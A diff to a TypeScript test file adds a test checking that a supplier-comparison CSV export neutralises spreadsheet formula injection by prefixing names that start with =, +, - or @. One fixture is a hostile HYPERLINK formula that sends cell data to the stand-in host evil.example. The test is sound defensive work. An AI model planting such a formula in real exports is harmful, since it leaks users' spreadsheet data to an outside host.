@@ -30,6 +30,22 @@ test('the comparison exports as CSV with quoting, a BOM and pounds', () => {
 	expect(csv).toContain('Northgate “Construction”,Under review,10100.5,10.1,50,,')
 })
 
+test('a supplier’s name that a spreadsheet would run as a formula comes out as text', () => {
+	const named = (organisation: string) => ({ ...rows[1]!, organisation })
+	const csv = comparisonCsv([
+		named('=HYPERLINK("http://evil.example/?leak="&A1,"Click here")'),
+		named('+44 Services'),
+		named('-Minus Ltd'),
+		named('@Home Care'),
+	])
+	expect(csv.split('\r\n').slice(1, 5)).toEqual([
+		'"\'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click here"")",Under review,10100.5,10.1,50,,',
+		"'+44 Services,Under review,10100.5,10.1,50,,",
+		"'-Minus Ltd,Under review,10100.5,10.1,50,,",
+		"'@Home Care,Under review,10100.5,10.1,50,,",
+	])
+})
+
 test('the comparison exports as an Excel workbook that reads back', async () => {
 	const sheet = await readSheet(await comparisonXlsx(rows))
 	expect(sheet[0]).toEqual([
